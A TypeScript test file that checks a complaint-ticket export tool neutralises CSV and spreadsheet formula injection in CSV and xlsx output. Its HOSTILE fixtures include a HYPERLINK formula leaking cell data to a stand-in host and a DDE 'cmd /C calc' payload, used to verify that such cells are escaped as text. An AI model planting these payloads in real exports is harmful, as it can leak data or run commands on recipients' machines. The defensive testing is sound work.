// `reclam export` with hostile complaint text: a subject a spreadsheet would run as a formula
// (CSV injection, OWASP) reaches the pilot as text, in the CSV and in the xlsx.
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createXlsxWriter } from '../../src/adapters/xlsx-workbook.js';
import { exportTickets, toCsv } from '../../src/services/export-tickets.js';
import { ingestMail } from '../../src/services/ingest-mail.js';
import type { Deps } from '../../src/services/deps.js';
import { FakeClock, rawMail, testDeps } from '../support/deps.js';
import { createTestDatabase, ENGINES, type TestDatabase } from '../support/engines.js';
import { testConfig } from '../support/test-config.js';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+33 6 12 34 56 78',
  '-2+3',
  '\tTab en tête',
];
/** As the ticket keeps them: a header's surrounding white space is not part of the subject. */
const SUBJECTS = HOSTILE.map((subject) => subject.trim());

describe('toCsv', () => {
  it('prefixes with a quote every text cell a spreadsheet would read as a formula', () => {
    const csv = toCsv({
      name: 'S',
      columns: [{ header: 'Objet' }, { header: 'Nombre' }],
      rows: [...HOSTILE.map((text) => [text, -2]), ['Accueil = désagréable', 3]],
    });
    const lines = csv.replace(/^\uFEFF/, '').split('\r\n');
    expect(lines.slice(1, 6)).toEqual([
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Cliquez"")";-2`,
      `'@SUM(1+1)*cmd|' /C calc'!A0;-2`,
      `'+33 6 12 34 56 78;-2`,
      `'-2+3;-2`,
      `'\tTab en tête;-2`,
    ]);
    // Only the start counts; numbers we computed stay numbers.
    expect(lines[6]).toBe('Accueil = désagréable;3');
  });

  it('neutralises a carriage return at the start too (quoted, since it holds a line break)', () => {
    const csv = toCsv({ name: 'S', columns: [{ header: 'Objet' }], rows: [['\r=1+1']] });
    expect(csv).toContain(`"'\r=1+1"`);
  });
});

describe.each(ENGINES)('reclam export of hostile subjects on %s', (engine) => {
  let t: TestDatabase;
  let deps: Deps;
  const clock = new FakeClock(new Date('2026-10-12T08:00:00Z'));

  beforeAll(async () => {
    t = await createTestDatabase(engine);
    deps = testDeps(t.database.db, testConfig(), clock);
    let n = 0;
    for (const subject of HOSTILE) {
      const outcome = await ingestMail(
        deps,
        rawMail(
          {
            From: `adherent${++n}@example.test`,
            To: 'reclamation@spst-test.fr',
            Subject: subject,
            'Message-ID': `<hostile${n}@example.test>`,
          },
          'L’accueil a été désagréable au téléphone.',
        ),
        { kind: 'file', name: `h${n}` },
      );
      expect(outcome.outcome).toBe('ticket');
    }
  });
  afterAll(async () => {
    deps?.sender.close();
    await t?.close();
  });

  it('writes no CSV cell that starts like a formula', async () => {
    const csv = await exportTickets(
      { ...deps, workbooks: createXlsxWriter() },
      { from: '2026-10-01', to: '2026-10-31', format: 'csv' },
    );
    expect(csv.count).toBe(HOSTILE.length);
    const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(csv.content);
    const cells = text
      .split('\r\n')
      .filter(Boolean)
      .flatMap((line) => line.split(';'))
      .map((cell) => cell.replace(/^"/, ''));
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(text).toContain(`'=HYPERLINK(`);
    expect(text).toContain(`'@SUM(1+1)`);
  });

  it('stores them in the xlsx as text cells, never as formulas', async () => {
    const xlsx = await exportTickets(
      { ...deps, workbooks: createXlsxWriter() },
      { from: '2026-10-01', to: '2026-10-31', format: 'xlsx', viewer: 'pilote@spst-test.fr' },
    );
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(Buffer.from(xlsx.content) as unknown as ArrayBuffer);
    const found: { value: unknown; type: number }[] = [];
    book.getWorksheet('Réclamations')!.eachRow((row) =>
      row.eachCell((cell) => {
        if (typeof cell.value === 'string' && SUBJECTS.includes(cell.value))
          found.push({ value: cell.value, type: cell.type });
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
      }),
    );
    expect(found.map((f) => f.value).sort()).toEqual([...SUBJECTS].sort());
    expect(found.every((f) => f.type === ExcelJS.ValueType.String)).toBe(true);
  });
});
